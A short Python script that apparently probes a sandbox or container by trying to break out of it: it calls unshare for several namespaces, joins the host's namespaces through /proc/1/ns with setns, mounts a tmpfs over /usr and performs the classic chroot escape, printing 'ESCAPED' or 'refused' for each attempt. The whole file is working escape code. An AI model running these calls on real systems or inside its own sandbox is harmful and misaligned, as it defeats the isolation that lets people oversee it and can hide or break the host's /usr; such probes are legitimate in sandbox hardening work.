# ctypes: unshare and setns into new or the host's namespaces, mount, chroot out.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE = {"user": 0x10000000, "net": 0x40000000, "mnt": 0x00020000, "pid": 0x20000000,
         "user+mnt": 0x10020000}
for name, flag in CLONE.items():
    if libc.unshare(flag) == 0:
        print("ESCAPED unshare", name)
    else:
        print("refused unshare", name, os.strerror(ctypes.get_errno()))
for ns in ("mnt", "net", "user", "pid"):
    fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
    if libc.setns(fd, 0) == 0:
        print("ESCAPED setns", ns)
    else:
        print("refused setns", ns, os.strerror(ctypes.get_errno()))
if libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0:
    print("ESCAPED mount")
os.makedirs("jail", exist_ok=True)
if libc.chroot(b"jail") == 0:
    os.chdir("../../../../..")
    print("ESCAPED chroot", os.listdir("."))
else:
    print("refused chroot", os.strerror(ctypes.get_errno()))
